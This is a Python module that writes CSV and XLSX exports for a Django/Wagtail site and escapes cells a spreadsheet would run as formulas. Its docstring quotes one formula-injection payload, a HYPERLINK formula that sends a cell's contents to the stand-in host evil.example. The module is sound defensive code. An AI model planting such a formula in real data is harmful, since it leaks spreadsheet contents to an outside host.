"""The one writer of CSV and XLSX files that Lianbing hands out.

A spreadsheet runs a cell that starts with `=`, `+`, `-` or `@` as a formula
(and Excel also after a leading tab or carriage return), so a name such as
`=HYPERLINK("http://evil.example/?"&A1,"click")` typed into a form would become
a live formula in every export that holds it. Every export goes through here:

- CSV: such a text cell is written with a leading apostrophe (`'=HYPERLINK(...)`),
  which spreadsheets show as text; numbers are written as numbers.
- XLSX: every string is stored as a string cell, never as a formula.

`csv_bytes(rows, header=...)` and `xlsx_bytes(...)` build a file;
`csv_response(...)` and `xlsx_response(...)` wrap it as a download.
`SafeSpreadsheetExportMixin` does the same for a Wagtail listing with
`list_export` (put it before the view class Wagtail gives).
"""

import csv
import io
from collections.abc import Iterable
from datetime import date, datetime
from decimal import Decimal

from django.http import HttpResponse
from openpyxl import Workbook
from openpyxl.cell import WriteOnlyCell

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
XLSX_CONTENT_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def csv_safe(value) -> str:
    """The text of a CSV cell: numbers and dates as they are, text that a
    spreadsheet would take for a formula behind an apostrophe."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return "yes" if value else "no"
    if isinstance(value, (int, float, Decimal)):
        return str(value)
    if isinstance(value, (date, datetime)):
        return value.isoformat()
    text = str(value)
    if text.startswith(FORMULA_STARTS):
        return "'" + text
    return text


def csv_bytes(
    rows: Iterable[Iterable], *, header: Iterable | None = None, bom: bool = True
) -> bytes:
    """A CSV file in UTF-8 (with a BOM by default, so that Excel reads it as
    UTF-8), lines ended by CRLF, every cell passed through `csv_safe`."""
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\r\n")
    if header is not None:
        writer.writerow([csv_safe(cell) for cell in header])
    for row in rows:
        writer.writerow([csv_safe(cell) for cell in row])
    return ("\ufeff" if bom else "").encode("utf-8") + out.getvalue().encode("utf-8")


def xlsx_bytes(
    rows: Iterable[Iterable], *, header: Iterable | None = None, sheet_title: str = "Sheet1"
) -> bytes:
    """An XLSX workbook of one sheet, written as a stream; strings are string
    cells (never formulas), numbers and dates keep their type."""
    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet(title=sheet_title[:31])

    def cells(values):
        for value in values:
            if (
                isinstance(value, bool)
                or value is None
                or isinstance(value, (int, float, Decimal, date, datetime))
            ):
                yield WriteOnlyCell(sheet, value=value)
                continue
            cell = WriteOnlyCell(sheet, value=str(value))
            cell.data_type = "s"  # openpyxl takes a leading "=" for a formula
            yield cell

    if header is not None:
        sheet.append(list(cells(header)))
    for row in rows:
        sheet.append(list(cells(row)))
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def _attachment(response: HttpResponse, file_name: str) -> HttpResponse:
    ascii_name = file_name.encode("ascii", "replace").decode().replace('"', "")
    response["Content-Disposition"] = f'attachment; filename="{ascii_name}"'
    return response


def csv_response(rows, *, file_name: str, header=None) -> HttpResponse:
    """A CSV download built by `csv_bytes`."""
    response = HttpResponse(csv_bytes(rows, header=header), content_type="text/csv; charset=utf-8")
    return _attachment(response, file_name)


def xlsx_response(
    rows, *, file_name: str, header=None, sheet_title: str = "Sheet1"
) -> HttpResponse:
    """An XLSX download built by `xlsx_bytes`."""
    data = xlsx_bytes(rows, header=header, sheet_title=sheet_title)
    return _attachment(HttpResponse(data, content_type=XLSX_CONTENT_TYPE), file_name)


class SafeSpreadsheetExportMixin:
    """For a Wagtail index view with `list_export`: CSV cells go through
    `csv_safe`. (Wagtail already stores XLSX strings as string cells.)"""

    def preprocess_field_value(self, field, value, export_format):
        value = super().preprocess_field_value(field, value, export_format)
        if export_format == "csv":
            return csv_safe(value)
        return value
